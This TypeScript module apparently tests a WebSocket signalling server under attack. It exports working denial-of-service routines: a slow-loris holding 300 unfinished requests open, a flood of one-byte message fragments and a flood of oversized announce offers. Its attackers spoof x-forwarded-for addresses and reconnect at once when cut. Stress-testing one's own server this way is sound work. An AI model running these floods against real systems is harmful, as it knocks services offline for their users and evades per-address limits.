import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { WebSocket } from 'ws';

/** More of it waits in no socket: who floods waits for the server, too. */
const MAX_WAITING_BYTES = 256 * 1024;
const ATTACKERS = 5;

/** Each goes on until its process ends; the attackers have addresses of their own, and come again when they are cut. */
export const ATTACKS = {
  /** Requests that never end. */
  'slow-loris': (url: string) => {
    const { hostname, port } = new URL(url);
    const open = (): void => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.once('close', open);
      socket.write('GET /ws HTTP/1.1\r\nHost: x\r\n');
      const timer = setInterval(() => socket.write('X-Slow: 1\r\n'), 500);
      socket.once('close', () => clearInterval(timer));
    };
    for (let count = 0; count < 300; count++) open();
  },
  /** Messages in fragments of one byte. */
  'tiny-fragments': (url: string) => {
    everyFew(5, attackers(url), (socket) => {
      for (let byte = 0; byte < 20; byte++) socket.send('x', { fin: false });
    });
  },
  /** Announces with ten offers each, as fast as the server takes them. */
  'offer-flood': (url: string) => {
    const swarmId = randomBytes(20).toString('hex');
    everyFew(2, attackers(url), (socket, peerId) => {
      const offers = Array.from({ length: 10 }, () => ({ offerId: randomBytes(20).toString('hex'), sealed: 'x'.repeat(1800) }));
      const payload = { swarmId, peerId, resumeToken: 'c3'.repeat(32), want: 10, offers };
      socket.send(JSON.stringify({ type: 'announce', id: 1, payload }));
    });
  },
} as const satisfies Record<string, (url: string) => void>;

interface Attacker {
  readonly peerId: string;
  readonly socket: () => WebSocket;
}

function attackers(url: string): readonly Attacker[] {
  return Array.from({ length: ATTACKERS }, (_, index) => {
    const headers = { 'x-forwarded-for': `198.51.100.${index + 1}` };
    const open = (): WebSocket => {
      const opened = new WebSocket(`${url.replace('http', 'ws')}/ws`, { perMessageDeflate: false, headers });
      opened.on('error', () => undefined);
      opened.on('message', () => undefined);
      // At once: this is no client that means well.
      opened.once('close', () => setTimeout(() => (socket = open()), 10));
      return opened;
    };
    let socket = open();
    return { peerId: randomBytes(20).toString('hex'), socket: () => socket };
  });
}

function everyFew(intervalMs: number, all: readonly Attacker[], attack: (socket: WebSocket, peerId: string) => void): void {
  setInterval(() => {
    for (const { socket, peerId } of all) {
      const one = socket();
      if (one.readyState === WebSocket.OPEN && one.bufferedAmount <= MAX_WAITING_BYTES) attack(one, peerId);
    }
  }, intervalMs);
}
